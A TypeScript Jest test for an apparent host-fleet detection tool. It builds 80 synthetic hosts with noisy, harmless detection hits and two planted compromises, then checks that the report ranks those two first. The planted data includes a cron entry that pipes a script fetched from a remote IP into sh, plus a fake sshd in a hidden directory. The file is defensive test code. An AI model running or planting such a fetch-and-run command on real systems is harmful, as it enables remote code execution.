import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from '@jest/globals'
import type { Row } from '../../src/snapshot/snapshot.ts'
import { runOverFiles, snapshotOf } from '../support/file-runs.ts'
import { host } from '../support/fleets.ts'

const HOSTS = 80
const ROLES = 4

/** A pack in which each row is a hit, as in public detection kits: no `fleet_drift`, and comments in front. */
const PACK = {
  platform: 'posix',
  queries: {
    'unexpected-privileged-process': detection('pid, name, path, cmdline, uid FROM processes WHERE uid = 0'),
    'recently-created-executables': detection(
      "path, size, mtime FROM file WHERE directory = '/usr/local/bin'"
    ),
    'unexpected-listeners': detection('pid, port, protocol, path FROM listening_ports'),
    'unexpected-cron': detection('command, path FROM crontab'),
    'hidden-cwd': detection("pid, cwd, path FROM processes WHERE cwd LIKE '%/.%'"),
    'fetched-and-run': detection("command, uid FROM shell_history WHERE command LIKE '%curl%'")
  }
}

function detection(select: string) {
  return {
    query: `-- What this finds\n-- false positives:\n--   * many; see below\nSELECT ${select};`,
    interval: 300
  }
}

/** A seeded generator of numbers from 0 to 1 (mulberry32). */
function random(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let value = Math.imul(state ^ (state >>> 15), 1 | state)
    value = (value + Math.imul(value ^ (value >>> 7), 61 | value)) ^ value
    return ((value ^ (value >>> 14)) >>> 0) / 4_294_967_296
  }
}

const PLANTED: Readonly<Record<string, Row>> = {
  'hidden-cwd': { pid: '4711', cwd: '/var/tmp/.x', path: '/var/tmp/.x/sshd' },
  'unexpected-cron': { command: 'curl -s http://198.51.100.7/a | sh', path: '/etc/cron.d/sysupdate' }
}

/** Hosts of four roles on which every detection hits something harmless; two of them are compromised. */
function noisyFleet() {
  const next = random(7)
  return Array.from({ length: HOSTS }, (_, index) => {
    const role = index % ROLES
    const pid = () => String(Math.floor(next() * 30_000))
    const agent = (name: string) => ({
      pid: pid(),
      name,
      path: `/opt/${name}/bin/${name}`,
      cmdline: `/opt/${name}/bin/${name} run`,
      uid: '0'
    })
    const rows: Record<string, Row[]> = {
      'unexpected-privileged-process': ['agent', 'backup', 'metrics', `role${role}`].map(agent),
      'recently-created-executables': ['deploy', `tool${role}`].map(name => ({
        path: `/usr/local/bin/${name}`,
        size: '1024',
        mtime: String(1_795_000_000 + Math.floor(next() * 100_000))
      })),
      'unexpected-listeners': [8080, 9100, 7000 + role].map(port => ({
        pid: pid(),
        port: String(port),
        protocol: '6',
        path: '/opt/agent/bin/agent'
      })),
      'unexpected-cron': [{ command: '/opt/backup/run', path: '/etc/cron.d/backup' }],
      'hidden-cwd': [{ pid: pid(), cwd: '/root/.cache', path: '/opt/metrics/bin/metrics' }],
      'fetched-and-run':
        next() < 0.5 ? [{ command: 'curl -fsS http://169.254.169.254/latest', uid: '0' }] : []
    }
    if (index === 17) rows['hidden-cwd']!.push(PLANTED['hidden-cwd']!)
    if (index === 42) rows['unexpected-cron']!.push(PLANTED['unexpected-cron']!)
    return host(`i-${String(index).padStart(17, '0')}`, rows)
  })
}

test('of a pack of noisy detections, what peers share is folded and the rare rest is ranked', async () => {
  const files = await snapshotOf(noisyFleet())
  const pack = join(files, '..', 'kit.json')
  await writeFile(pack, JSON.stringify(PACK))
  const { report } = await runOverFiles({ files, packs: pack })
  const hostsOf = (finding: { hosts: string[] }) => finding.hosts.map(id => Number(id.slice(2)))
  const open = report.findings.filter(({ severity }: { severity: string }) => severity !== 'info')
  expect(open.slice(0, 2).flatMap(hostsOf).sort()).toEqual([17, 42])
  expect(open.length).toBeLessThanOrEqual(4)
  expect(report.summary.reported).toBe(HOSTS)
})
